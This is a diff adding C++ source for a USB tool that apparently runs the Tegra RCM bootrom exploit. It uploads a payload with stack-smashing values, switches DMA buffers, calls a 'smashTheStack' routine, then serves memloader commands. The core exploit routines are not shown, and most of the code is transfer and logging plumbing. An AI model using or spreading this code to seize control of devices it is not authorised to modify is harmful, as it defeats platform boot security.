+		currRead.buffer.resize(CAPTURE_READ_SIZE);
+		currRead.doneEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+		memset(&currRead.overlapped, 0, sizeof(currRead.overlapped));
+		currRead.overlapped.hEvent = currRead.doneEvent.get();
+		currRead.pending = false;
+	}
+	// the driver writes into these until each read is finished with, cancelled or not
+	auto readsGrd = MakeScopeGuard([&rcmDev, &queuedReads]()
+	{
+		if (std::any_of(std::begin(queuedReads), std::end(queuedReads), [](const QueuedRead& itm) { return itm.pending; }))
+			rcmDev.abortReads();
+
+		for (auto& currRead : queuedReads)
+		{
+			if (currRead.pending)
+				rcmDev.finishRead(currRead.overlapped);
+
+			currRead.pending = false;
+		}
+	});
+
+	int readRes = 0;
+	for (auto& currRead : queuedReads)
+	{
+		readRes = rcmDev.beginRead(&currRead.buffer[0], currRead.buffer.size(), currRead.overlapped);
+		if (readRes < 0)
+			break;
+
+		currRead.pending = true;
+	}
+
+	const auto captureStart = std::chrono::steady_clock::now();
+	auto lastReport = captureStart;
+	u64 numCaptured = 0, lastReportBytes = 0;
+	u32 numReads = 0;
+	size_t nextRead = 0;
+	while (readRes >= 0 && queuedReads[nextRead].pending)
+	{
+		auto& currRead = queuedReads[nextRead];
+		readRes = rcmDev.finishRead(currRead.overlapped);
+		currRead.pending = false;
+		if (readRes <= 0)
+			break;
+
+		captureWriter.append(&currRead.buffer[0], readRes);
+		numCaptured += readRes;
+		numReads++;
+
+		readRes = rcmDev.beginRead(&currRead.buffer[0], currRead.buffer.size(), currRead.overlapped);
+		if (readRes < 0)
+			break;
+
+		currRead.pending = true;
+		nextRead = (nextRead+1) % CAPTURE_READS;
+
+		const auto currTime = std::chrono::steady_clock::now();
+		const double reportSecs = std::chrono::duration<double>(currTime - lastReport).count();
+		if (reportSecs >= REPORT_INTERVAL_SECS)
+		{
+			LogPrint(LogLevel::Info, TEXT("Captured %llu bytes so far (%.2f MB/s)\n"), numCaptured, (numCaptured-lastReportBytes)/reportSecs/(1024.0*1024.0));
+			lastReport = currTime;
+			lastReportBytes = numCaptured;
+		}
+	}
+	readsGrd.run();
+
+	const auto writeRes = captureWriter.close();
+	const double captureSecs = std::chrono::duration<double>(std::chrono::steady_clock::now() - captureStart).count();
+	LogPrint(LogLevel::Info, TEXT("Captured %llu bytes in %u reads to '%Ts' in %.2f s (%.2f MB/s, written in %u batches)\n"), numCaptured, numReads, captureFilename,
+		captureSecs, (captureSecs > 0) ? numCaptured/captureSecs/(1024.0*1024.0) : 0.0, captureWriter.getNumWrites());
+
+	progress.addBytes(numCaptured);
+	if (writeRes != 0)
+	{
+		LogPrint(LogLevel::Error, TEXT("Writing capture file '%Ts' failed with win32 error %d\n"), captureFilename, -writeRes);
+		return -2;
+	}
+	// unplugging or resetting the device is how most payloads end their output
+	if (readRes < 0 && -readRes != ERROR_DEVICE_NOT_CONNECTED && -readRes != ERROR_GEN_FAILURE && -readRes != ERROR_NO_SUCH_DEVICE)
+	{
+		LogPrint(LogLevel::Error, TEXT("Win32 error %d during capture read\n"), -readRes);
+		return -10;
+	}
+
+	progress.end();
+	return 0;
+}
+
+//Queues every message of the batch on the pipe before waiting for any of them, then reaps them in order with a progress
+//phase per command. Returns 0, -10 if a COPY transfer failed or -11 if a COPY message only went out in part.
+//A BOOT that doesn't go out isn't fatal, outBootSent says whether it did
+static int SendCommandBatch(RCMDeviceHacker& rcmDev, const CommandBatch& cmdBatch, const vector<CopyDataItem>& copyData, const BootDataItem* bootItem, 
+							SessionProgress& progress, bool& outBootSent)
+{
+	outBootSent = false;
+	const auto& messages = cmdBatch.getMessages();
+	if (messages.size() == 0)
+		return 0;
+
+	struct QueuedWrite
+	{
+		OVERLAPPED overlapped;
+		WinHandle doneEvent;
+		bool pending;
+	};
+	vector<QueuedWrite> queuedWrites(messages.size());
+	for (auto& currWrite : queuedWrites)
+	{
+		currWrite.doneEvent = CreateEvent(nullptr, TRUE, FALSE, nullptr);
+		memset(&currWrite.overlapped, 0, sizeof(currWrite.overlapped));
+		currWrite.overlapped.hEvent = currWrite.doneEvent.get();
+		currWrite.pending = false;
+	}
+	// the driver reads from the batch until each write is finished with, cancelled or not
+	auto writesGrd = MakeScopeGuard([&rcmDev, &queuedWrites]()
+	{
+		if (std::any_of(queuedWrites.begin(), queuedWrites.end(), [](const QueuedWrite& itm) { return itm.pending; }))
+			rcmDev.abortWrites();
+
+		for (auto& currWrite : queuedWrites)
+		{
+			if (currWrite.pending)
+				rcmDev.finishWrite(currWrite.overlapped);
+
+			currWrite.pending = false;
+		}
+	});
+
+	// the pipe sends them in the order they were queued, so the commands arrive exactly as if sent one at a time
+	const auto batchStart = std::chrono::steady_clock::now();
+	int queueRes = 0;
+	for (size_t i=0; i<messages.size(); i++)
+	{
+		queueRes = rcmDev.beginWrite(cmdBatch.messageBytes(messages[i]), messages[i].length, queuedWrites[i].overlapped);
+		if (queueRes < 0)
+			break;
+
+		queuedWrites[i].pending = true;
+	}
+
+	size_t currMsg = 0;
+	for (size_t cmdIdx=0; cmdIdx<cmdBatch.getNumCommands(); cmdIdx++)
+	{
+		const bool isCopy = cmdIdx < copyData.size();
+		const char* cmdName = nullptr;
+		if (isCopy)
+		{
+			const auto& currData = copyData[cmdIdx];
+			LogPrint(LogLevel::Info, TEXT("Sending COPY command %hs (from 0x%08llx-0x%08llx to 0x%08llx-0x%08llx) type %u\n"), 
+				currData.name.c_str(), (u64)currData.srcaddr, (u64)currData.srcaddr+currData.srclen,
+				(u64)currData.dstaddr, (u64)currData.dstaddr+(u64)currData.dstlen, currData.copyType);
+
+			progress.begin(RCMSMASH_PHASE_COPY, currData.name.c_str(), currData.dstaddr, currData.srclen);
+			cmdName = currData.name.c_str();
+		}
+		else
+		{
+			assert(bootItem != nullptr);
+			LogPrint(LogLevel::Info, TEXT("Booting AArch64 with PC 0x%08llx...\n"), (u64)bootItem->pc);
+			progress.begin(RCMSMASH_PHASE_BOOT, bootItem->name.c_str(), bootItem->pc);
+			cmdName = bootItem->name.c_str();
+		}
+
+		for (; currMsg<messages.size() && messages[currMsg].command == cmdIdx; currMsg++)
+		{
+			auto& currWrite = queuedWrites[currMsg];
+			const int bytesToSend = (int)messages[currMsg].length;
+			const int bytesSent = currWrite.pending ? rcmDev.finishWrite(currWrite.overlapped) : queueRes;
+			currWrite.pending = false;
+			if (bytesSent < 0)
+				LogPrint(LogLevel::Error, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
+			else if (bytesSent < bytesToSend)
+				LogPrint(LogLevel::Error, TEXT("Only sent %d out of %d bytes for %hs command %hs, device needs a restart!\n"), bytesSent, bytesToSend, isCopy ? "copy" : "boot", cmdName);
+
+			if (bytesSent < bytesToSend)
+			{
+				if (isCopy)
+					return (bytesSent < 0) ? -10 : -11;
+
+				// BOOT is always last, so nothing else is queued behind it
+				progress.end(-10);
+				return 0;
+			}
+		}
+		progress.end();
+	}
+	outBootSent = (bootItem != nullptr);
+
+	// measured up to the completion of the last message, the time the host spent before memloader had the whole batch
+	LogPrint(LogLevel::Info, TEXT("Sent %llu commands as %llu queued transfers (%llu bytes), the last one completed %.2f ms after the first was queued\n"),
+		(u64)cmdBatch.getNumCommands(), (u64)messages.size(), (u64)cmdBatch.getNumBytes(), MillisecondsSince(batchStart));
+	return 0;
+}
+
+//One BOOT on its own, for the entries after the first when that one didn't go out. Returns whether it did
+static bool SendBootCommand(RCMDeviceHacker& rcmDev, const BootDataItem& currData, SessionProgress& progress)
+{
+	LogPrint(LogLevel::Info, TEXT("Booting AArch64 with PC 0x%08llx...\n"), (u64)currData.pc);
+	progress.begin(RCMSMASH_PHASE_BOOT, currData.name.c_str(), currData.pc);
+	int bytesSent = rcmDev.writeResumable((const u8*)"BOOT", strlen("BOOT"));
+	if (bytesSent == strlen("BOOT"))
+	{
+		u32 addrData = _byteswap_ulong((u32)currData.pc);
+		bytesSent = rcmDev.writeResumable((const u8*)&addrData, sizeof(addrData));
+		if (bytesSent == sizeof(addrData))
+		{
+			progress.end();
+			return true;
+		}
+	}
+
+	progress.end(-10);
+	return false;
+}
+
+namespace
+{
+	struct SentRange
+	{
+		u32 offset;
+		u32 length;
+		u32 crc;
+	};
+
+	//The crc of every byte of the section that went out, in offset order whatever order memloader asked for them in.
+	//Built from the per range crcs taken during the writes, only bytes that overlap an earlier range get read again
+	u32 SectionDigest(const LoadDataItem& section, vector<SentRange>& sentRanges)
+	{
+		std::sort(sentRanges.begin(), sentRanges.end(), [](const SentRange& left, const SentRange& right) { return left.offset < right.offset; });
+
+		u32 digest = Crc32c::compute(nullptr, 0);
+		u64 coveredEnd = 0;
+		for (const auto& currRange : sentRanges)
+		{
+			const u64 rangeEnd = u64(currRange.offset)+currRange.length;
+			if (rangeEnd <= coveredEnd)
+				continue;
+
+			if (currRange.offset >= coveredEnd)
+				digest = Crc32c::combine(digest, currRange.crc, currRange.length);
+			else
+			{
+				const auto tailLength = size_t(rangeEnd-coveredEnd);
+				digest = Crc32c::combine(digest, Crc32c::compute(section.dataPtr((size_t)coveredEnd), tailLength), tailLength);
+			}
+
+			coveredEnd = rangeEnd;
+		}
+
+		return digest;
+	}
+}
+
+static int ServeDeviceSession(KLST_DEVINFO_HANDLE deviceInfo, const RcmImage& rcmImage, SessionContext& ctx, SessionProgress& progress)
+{
+	const auto readbackUsb = ctx.readbackUsb;
+	const auto recordedProfile = ctx.recordedProfile;
+	const auto report = ctx.report;
+
+	progress.begin(RCMSMASH_PHASE_OPEN);
+	KUSB_DRIVER_API Usb;
+	DriverIoctlFunc driverIoctl = nullptr;
+	const bool emulated = EmulatedRcmDevice::LoadDriverAPI(deviceInfo, Usb, driverIoctl);
+	if (!emulated && deviceInfo->DriverID != KUSB_DRVID_LIBUSBK)
+	{
+		LogPrint(LogLevel::Info, TEXT("The selected device path %hs with VID_%04X&PID_%04x isn't using the libusbK driver\n"), 
+			deviceInfo->DevicePath, deviceInfo->Common.Vid, deviceInfo->Common.Pid);
+		LogPrint(LogLevel::Info, TEXT("Please run Zadig and install the libusbK (v3.0.7.0) driver for this device\n"));
+
+		LogPrint(LogLevel::Error, TEXT("Failed to open USB device handle because of wrong driver installed\n"));
+		return -6;
+	}
+
+	if (!emulated)
+		LibK_LoadDriverAPI(&Usb, deviceInfo->DriverID);
+
+	// Initialize the device
+	KUSB_HANDLE handle = nullptr;
+	if (!Usb.Init(&handle, deviceInfo))
+	{
+		const auto errorCode = GetLastError();
+		LogPrint(LogLevel::Error, TEXT("Failed to open USB device handle with win32 error %u\n"), errorCode);
+		return -6;
+	}
+	else
+		LogPrint(LogLevel::Info, TEXT("Opened USB device path %hs\n"), deviceInfo->DevicePath);
+
+	RCMDeviceHacker rcmDev(Usb, handle, driverIoctl); handle = nullptr;
+	auto recoveryGuard = MakeScopeGuard([&rcmDev, &ctx]()
+	{
+		const auto& stats = rcmDev.getTransferStats();
+		if (ctx.metrics != nullptr)
+			ctx.metrics->transfersFinished(stats.transfersRecovered, stats.transfersFailed);
+
+		if (stats.transfersRecovered > 0 || stats.transfersFailed > 0)
+		{
+			LogPrint(LogLevel::Info, TEXT("Transfers recovered: %u (%u chunks resumed), unrecoverable: %u\n"), 
+				stats.transfersRecovered, stats.chunksResumed, stats.transfersFailed);
+		}
+	});
+	
+	libusbk::version_t usbkVersion;
+	memset(&usbkVersion, 0, sizeof(usbkVersion));
+	progress.begin(RCMSMASH_PHASE_DRIVER_VERSION);
+	const auto versRetVal = rcmDev.getDriverVersion(usbkVersion);
+	if (versRetVal <= 0)
+	{
+		LogPrint(LogLevel::Error, TEXT("Failed to get libusbK driver version for device with win32 error %d\n"), -versRetVal);
+		return -6;
+	}
+	progress.end();
+
+	if (usbkVersion.major != 3 || usbkVersion.minor != 0 || usbkVersion.micro != 7)
+	{
+		LogPrint(LogLevel::Info, TEXT("The opened device isn't using the correct libusbK driver version (expected: %u.%u.%u got: %u.%u.%u)\n"),
+						3, 0, 7, usbkVersion.major, usbkVersion.minor, usbkVersion.micro);
+		LogPrint(LogLevel::Info, TEXT("Please run Zadig and install the libusbK (v3.0.7.0) driver for this device\n"));
+
+		LogPrint(LogLevel::Error, TEXT("Failed to open USB device handle because of wrong driver version installed\n"));
+		return -6;
+	}
+	progress.end();
+	if (report != nullptr)
+	{
+		report->openedAt = std::chrono::steady_clock::now();
+		report->opened = true;
+	}
+
+	u8 didBuf[0x10];
+	memset(didBuf, 0, sizeof(didBuf));
+	progress.begin(RCMSMASH_PHASE_DEVICE_ID);
+	const auto didRetVal = rcmDev.readDeviceId(didBuf, sizeof(didBuf));
+	if (didRetVal >= int(sizeof(didBuf)))
+	{
+		LogPrint(LogLevel::Info, TEXT("RCM Device with id %02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X initialized successfully!\n"),
+			(u32)didBuf[0],(u32)didBuf[1],(u32)didBuf[2],(u32)didBuf[3],(u32)didBuf[4],(u32)didBuf[5],(u32)didBuf[6],(u32)didBuf[7],
+			(u32)didBuf[8],(u32)didBuf[9],(u32)didBuf[10],(u32)didBuf[11],(u32)didBuf[12],(u32)didBuf[13],(u32)didBuf[14],(u32)didBuf[15]);
+
+		if (report != nullptr)
+		{
+			memcpy(report->deviceId, didBuf, sizeof(report->deviceId));
+			report->gotDeviceId = true;
+		}
+		progress.setDeviceId(didBuf);
+		progress.end();
+	}
+	else
+	{
+		if (didRetVal < 0)
+			LogPrint(LogLevel::Error, TEXT("Reading device id failed with win32 error %d\n"), -didRetVal);
+		else
+			LogPrint(LogLevel::Error, TEXT("Was only able to read %d out of %d bytes of device id\n"), didRetVal, (int)sizeof(didBuf));
+
+		return -7;
+	}
+
+	// A selected profile was loaded and built before the device showed up, choosing one adds no disk or assembly time
+	BootProfile* routedProfile = nullptr;
+	if (ctx.selector != nullptr && !ctx.selector->select(didBuf, routedProfile))
+	{
+		LogPrint(LogLevel::Error, TEXT("Nothing to boot on this device, ending the session before the upload\n"));
+		return -13;
+	}
+	if (routedProfile != nullptr)
+	{
+		LogPrint(LogLevel::Info, TEXT("Routing device to payload '%Ts'%Ts%Ts\n"), routedProfile->payloadFilename.c_str(),
+			(routedProfile->iniFilename.length() > 0) ? TEXT(" with data ini ") : TEXT(""), routedProfile->iniFilename.c_str());
+	}
+	const auto& sessionImage = (routedProfile != nullptr) ? routedProfile->rcmImage : rcmImage;
+	auto& loadData = (routedProfile != nullptr) ? routedProfile->loadData : ctx.loadData;
+	const auto& copyData = (routedProfile != nullptr) ? routedProfile->copyData : ctx.copyData;
+	const auto& bootData = (routedProfile != nullptr) ? routedProfile->bootData : ctx.bootData;
+
+	// Send the constructed payload, which contains the command, the stack smashing values, the Intermezzo relocation stub, and the user payload.
+	const auto& payloadBuf = *sessionImage.bytes;
+	LogPrint(LogLevel::Info, TEXT("Uploading payload (mezzo size: %u, user size: %u, total size: %u, total padded size: %u)...\n"), 
+					(u32)sessionImage.mezzoSize, (u32)sessionImage.payloadSize, (u32)sessionImage.unpaddedSize, (u32)payloadBuf.size());
+
+	// Everything the upload, the high buffer switch and the smash touch is made resident before the first packet goes out
+	std::unique_ptr<LowJitterWindow> jitterWindow;
+	if (ctx.lowJitter.enabled)
+	{
+		jitterWindow.reset(new LowJitterWindow(ctx.lowJitter));
+		jitterWindow->lockRange(payloadBuf.data(), payloadBuf.size());
+		for (const auto& currBuf : rcmDev.getCriticalBuffers())
+			jitterWindow->lockRange(currBuf.first, currBuf.second);
+
+		rcmDev.setBusyPoll(true);
+	}
+
+	JitterStats packetTiming;
+	const auto uploadStart = std::chrono::steady_clock::now();
+	if (report != nullptr)
+	{
+		report->uploadStart = uploadStart;
+		report->uploadStarted = true;
+	}
+	progress.begin(RCMSMASH_PHASE_UPLOAD, nullptr, 0, payloadBuf.size());
+	int writeRes = 0;
+	for (size_t chunkOffset=0; chunkOffset<payloadBuf.size(); chunkOffset+=RCMDeviceHacker::PACKET_SIZE)
+	{
+		const size_t chunkSize = std::min(payloadBuf.size()-chunkOffset, (size_t)RCMDeviceHacker::PACKET_SIZE);
+		progress.begin(RCMSMASH_PHASE_UPLOAD_CHUNK, nullptr, chunkOffset, chunkSize);
+		const auto chunkStart = std::chrono::steady_clock::now();
+		const auto chunkRes = rcmDev.write(&payloadBuf[chunkOffset], chunkSize);
+		packetTiming.add(std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - chunkStart).count());
+		if (chunkRes < 0)
+		{
+			writeRes = chunkRes;
+			break;
+		}
+
+		writeRes += chunkRes;
+		if (chunkRes < (int)chunkSize)
+			break;
+
+		progress.end();
+	}
+	if (writeRes < (int)payloadBuf.size())
+	{
+		if (writeRes < 0)
+			LogPrint(LogLevel::Error, TEXT("Win32 error %d happened trying to write payload buffer to RCM\n"), -writeRes);
+		else
+			LogPrint(LogLevel::Error, TEXT("Was only able to upload %d out of %d bytes of payload buffer\n"), writeRes, (int)payloadBuf.size());
+
+		return -8;
+	}
+	progress.end();
+
+	// The RCM backend alternates between two different DMA buffers.Ensure we're about to DMA into the higher one, so we have less to copy during our attack.
+	progress.begin(RCMSMASH_PHASE_HIGH_BUFFER);
+	const auto switchStart = std::chrono::steady_clock::now();
+	const auto switchRes = rcmDev.switchToHighBuffer();
+	if (switchRes > 0)
+		packetTiming.add(std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - switchStart).count());
+	if (switchRes != 0)
+	{
+		if (switchRes < 0)
+		{
+			LogPrint(LogLevel::Error, TEXT("Failed to switch to high buffer, win32 error %d\n"), -switchRes);
+			return -9;
+		}
+		else if (switchRes != RCMDeviceHacker::PACKET_SIZE)
+		{
+			LogPrint(LogLevel::Error, TEXT("Only wrote %d out of %d bytes during high buffer switch\n"), switchRes, (int)RCMDeviceHacker::PACKET_SIZE);
+			return -9;
+		}
+
+		// the console can block, so with the window open this waits until after the smash
+		if (jitterWindow == nullptr)
+			LogPrint(LogLevel::Info, TEXT("Switched to high buffer\n"));
+	}
+	progress.end();
+
+	if (report != nullptr)
+		report->uploadMs = MillisecondsSince(uploadStart);
+
+	if (jitterWindow == nullptr)
+		LogPrint(LogLevel::Info, TEXT("Smashing the stack!\n"));
+	const auto smashStart = std::chrono::steady_clock::now();
+	progress.begin(RCMSMASH_PHASE_SMASH);
+	const auto smashRes = rcmDev.smashTheStack();
+	if (report != nullptr)
+		report->smashMs = MillisecondsSince(smashStart);
+
+	if (smashRes < 0)
+	{
+		LogPrint(LogLevel::Error, TEXT("Got win32 error %d tryin to smash\n"), -smashRes);
+		return -10;
+	}
+	progress.end();
+
+	rcmDev.setBusyPoll(false);
+	if (jitterWindow != nullptr)
+	{
+		TCHAR cpuStr[32];
+		if (jitterWindow->getCpuIndex() >= 0)
+			_stprintf_s(cpuStr, TEXT("CPU %d"), jitterWindow->getCpuIndex());
+		else
+			_stprintf_s(cpuStr, TEXT("no CPU"));
+
+		const bool gotRealtime = jitterWindow->gotRealtimeClass();
+		const auto lockedBytes = jitterWindow->getLockedBytes();
+		jitterWindow.reset();
+		LogPrint(LogLevel::Info, TEXT("Low jitter mode: pinned to %Ts in the %Ts priority class, %llu bytes locked, busy polled completions\n"), cpuStr,
+			gotRealtime ? TEXT("realtime") : TEXT("high"), (u64)lockedBytes);
+		if (switchRes > 0)
+			LogPrint(LogLevel::Info, TEXT("Switched to high buffer\n"));
+	}
+	// printed without the window too, as the baseline to compare it against
+	LogPrint(LogLevel::Info, TEXT("Upload packet timing: %u packets, avg %.1f us, stddev %.1f us, min %.1f us, max %.1f us (%Ts)\n"), packetTiming.count(), packetTiming.mean(),
+		packetTiming.stddev(), packetTiming.minimum(), packetTiming.maximum(), ctx.lowJitter.enabled ? TEXT("low jitter mode") : TEXT("normal scheduling"));
+
+	LogPrint(LogLevel::Info, TEXT("Smashed the stack with a 0x%04x byte SETUP request!\n"), smashRes);
+	if (recordedProfile != nullptr)
+		recordedProfile->restartClock();
+
+	// nothing to send, so the payload's output starts right away
+	const bool haveCommands = loadData.size() > 0 || copyData.size() > 0 || bootData.size() > 0;
+	if (readbackUsb && ctx.captureFilename != nullptr && !haveCommands)
+		return CaptureDeviceOutput(rcmDev, ctx.captureFilename, progress);
+
+	if (readbackUsb || haveCommands)
+	{
+		ByteVector readBuffer(32768, 0);
+		int bytesRead = 0;
+		bool waitingForReady = true;
+		bool bootSent = false;
+		progress.begin(RCMSMASH_PHASE_READY_WAIT);
+		while ((bytesRead = rcmDev.read(&readBuffer[0], readBuffer.size())) > 0)
+		{
+			auto dataIt = std::find_if(loadData.begin(), loadData.end(), [bytesRead,&readBuffer](const LoadDataItem& itm) 
+			{
+				if (itm.name.length() == 0)
+					return false;
+
+				const char* dataName = itm.name.c_str();
+				const size_t dataNameLen = itm.name.length();
+				if (bytesRead > int(dataNameLen) && readBuffer[dataNameLen] == '\n' &&
+					strncmp((const char*)&readBuffer[0], dataName, dataNameLen) == 0)
+					return true;
+
+				return false;
+			});
+
+			static const char READY_INDICATOR[] = "READY.\n";
+			if (bytesRead == array_countof(READY_INDICATOR)-1 && memcmp(&readBuffer[0], READY_INDICATOR, array_countof(READY_INDICATOR)-1) == 0)
+			{
+				LogPrint(LogLevel::Info, TEXT("Switching to command mode due to %hs"), READY_INDICATOR);
+				if (waitingForReady)
+				{
+					progress.end();
+					waitingForReady = false;
+				}
+				progress.begin(RCMSMASH_PHASE_READY);
+				for (auto& currData : loadData)
+				{
+					if (!currData.reloaded)
+					{
+						const auto readFileRes = LoadDataItemBytes(currData);
+						if (readFileRes != 0)
+							return readFileRes;
+
+						currData.reloaded = true;
+					}
+
+					LogPrint(LogLevel::Info, TEXT("Sending %Ts (%llu bytes) to address 0x%08llx\n"), currData.filename.c_str(), (u64)currData.dataSize(), (u64)currData.address);
+					if (currData.dataSize() == 0)
+						continue;
+
+					progress.begin(RCMSMASH_PHASE_RECV, (currData.name.length() > 0) ? currData.name.c_str() : nullptr, currData.address, currData.dataSize());
+					Crc32c dataCrc;
+					int bytesSent = rcmDev.writeResumable((const u8*)"RECV", strlen("RECV"));
+					if (bytesSent == strlen("RECV"))
+					{
+						u32 offsetData[] ={ _byteswap_ulong((u32)currData.address), _byteswap_ulong((u32)currData.dataSize()) };
+						bytesSent = rcmDev.writeResumable((const u8*)&offsetData[0], sizeof(offsetData));
+						if (bytesSent == sizeof(offsetData))
+							bytesSent = rcmDev.writeResumable(currData.dataPtr(), currData.dataSize(), readBuffer.size(), &dataCrc);
+					}
+					if (bytesSent != int(currData.dataSize()))
+					{
+						if (bytesSent < 0)
+						{
+							LogPrint(LogLevel::Error, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
+							return -10;
+						}
+						else if (size_t(bytesSent) < currData.dataSize())
+						{
+							LogPrint(LogLevel::Error, TEXT("Only sent %d out of %llu bytes for data file %Ts, device needs a restart!\n"), bytesSent, (u64)currData.dataSize(), currData.filename.c_str());
+							return -11;
+						}
+					}
+					LogPrint(LogLevel::Info, TEXT("Sent %Ts (crc32c 0x%08x)\n"), currData.filename.c_str(), dataCrc.value());
+					progress.end();
+				}
+
+				// the first BOOT goes out with the batch, the payload stops taking commands once one of them gets through
+				const BootDataItem* bootItem = (bootData.size() > 0) ? &bootData[0] : nullptr;
+				CommandBatch cmdBatch;
+				for (const auto& currData : copyData)
+					cmdBatch.addCopy(currData);
+				if (bootItem != nullptr)
+					cmdBatch.addBoot(*bootItem);
+
+				bool bootDone = false;
+				const auto batchRes = SendCommandBatch(rcmDev, cmdBatch, copyData, bootItem, progress, bootDone);
+				if (batchRes != 0)
+					return batchRes;
+
+				// a BOOT that didn't go out falls through to the next entry, as when they were all sent one at a time
+				for (size_t bootIdx=1; !bootDone && bootIdx<bootData.size(); bootIdx++)
+					bootDone = SendBootCommand(rcmDev, bootData[bootIdx], progress);
+
+				if (bootDone)
+				{
+					LogPrint(LogLevel::Info, TEXT("BOOT command sent successfully!"));
+					if (!readbackUsb)
+					{
+						LogPrint(LogLevel::Info, TEXT(" Exiting.\n"));
+						return 0;
+					}
+					else
+					{
+						LogPrint(LogLevel::Info, TEXT(" Continuing.\n"));
+						bootSent = true;
+					}
+				}
+				progress.end();
+
+				if (bootSent && ctx.captureFilename != nullptr)
+					return CaptureDeviceOutput(rcmDev, ctx.captureFilename, progress);
+			}
+			else if (dataIt == loadData.end()) //no matching section to send, just print out the message
+			{
+				AsyncLogger::instance().printNarrow(LogLevel::Info, (const char*)&readBuffer[0], bytesRead);
+			}
+			else //got a section to send
+			{
+				LogPrint(LogLevel::Info, TEXT("Switching to sending of section '%hs'\n"), dataIt->name.c_str());
+				if (waitingForReady)
+				{
+					progress.end();
+					waitingForReady = false;
+				}
+				progress.begin(RCMSMASH_PHASE_SECTION, dataIt->name.c_str());
+				if (!dataIt->reloaded)
+				{
+					const auto readFileRes = LoadDataItemBytes(*dataIt);
+					if (readFileRes != 0)
+						return readFileRes;
+
+					if (ctx.replay != nullptr)
+						ctx.replay->pin(*dataIt);
+
+					dataIt->reloaded = true;
+				}
+
+				size_t numBytesSent = 0;
+				vector<SentRange> sentRanges;
+				while ((bytesRead = rcmDev.read(&readBuffer[0], readBuffer.size())) >= 8)
+				{
+					u32 offset, length;
+					memcpy(&offset, &readBuffer[0], sizeof(offset));
+					memcpy(&length, &readBuffer[sizeof(offset)], sizeof(length));
+					offset = _byteswap_ulong(offset);
+					length = _byteswap_ulong(length);
+
+					if (length == 0)
+					{
+						LogPrint(LogLevel::Info, TEXT("Finished sending section '%hs' (total bytes sent: %llu, crc32c 0x%08x)\n"), dataIt->name.c_str(), (u64)numBytesSent, 
+							SectionDigest(*dataIt, sentRanges));
+						break;
+					}
+
+					const auto neededBytes = size_t(offset)+size_t(length);
+					if (neededBytes > dataIt->dataSize())
+					{
+						LogPrint(LogLevel::Error, TEXT("Device requested %llu bytes (we only have %llu in file '%Ts')!\n"), (u64)neededBytes, (u64)dataIt->dataSize(), dataIt->filename.c_str());
+						return -2;
+					}
+
+					if (recordedProfile != nullptr)
+						recordedProfile->record(dataIt->name, offset, length);
+
+					LogPrint(LogLevel::Verbose, TEXT("Sending 0x%08x bytes from offset 0x%08x\n"), length, offset);
+					progress.begin(RCMSMASH_PHASE_SECTION_REPLY, dataIt->name.c_str(), offset, length);
+					Crc32c rangeCrc;
+					int bytesSent = rcmDev.writeResumable(dataIt->dataPtr(offset), length, readBuffer.size(), &rangeCrc);
+					if (bytesSent != int(length))
+					{
+						if (bytesSent >= 0)
+						{
+							LogPrint(LogLevel::Error, TEXT("Sent only %d out of requested %u bytes, device needs a restart!\n"), bytesSent, length);
+							return -11;
+						}
+						else
+						{
+							LogPrint(LogLevel::Error, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
+							return -10;
+						}
+					}
+					progress.end();
+					sentRanges.push_back({ offset, length, rangeCrc.value() });
+					numBytesSent += bytesSent;
+				}
+				if (bytesRead < 0)
+				{
+					LogPrint(LogLevel::Error, TEXT("Got win32 err %d during [offset,length] read operation!\n"), -bytesRead);
+					return -10;
+				}
+
+				progress.end();
+				if (bytesRead < 8)
+				{
+					LogPrint(LogLevel::Error, TEXT("Read too short packet (%d bytes) while in section send mode, dropping out.\n"), bytesRead);
+					break;
+				}
+			}
+		}
+		if (waitingForReady)
+			progress.end((bytesRead < 0) ? -10 : 0);
+		if (bytesRead < 0)
+		{
+			LogPrint(LogLevel::Error, TEXT("Win32 error %d during post-smash read op\n"), -bytesRead);
+			return -10;
+		}
+	}
+
+	return 0;
+}
+
+int RunDeviceSession(KLST_DEVINFO_HANDLE deviceInfo, const RcmImage& rcmImage, SessionContext& ctx)
+{
+	SessionProgress progress(ctx.progressFunc, ctx.progressUserData, ctx.metrics);
+	progress.begin(RCMSMASH_PHASE_SESSION);
+	const auto sessionRes = ServeDeviceSession(deviceInfo, rcmImage, ctx, progress);
+	progress.finish(sessionRes);
+
+	// whoever prints next expects the session's lines to be out already
+	AsyncLogger::instance().flush();
+
+	return sessionRes;
+}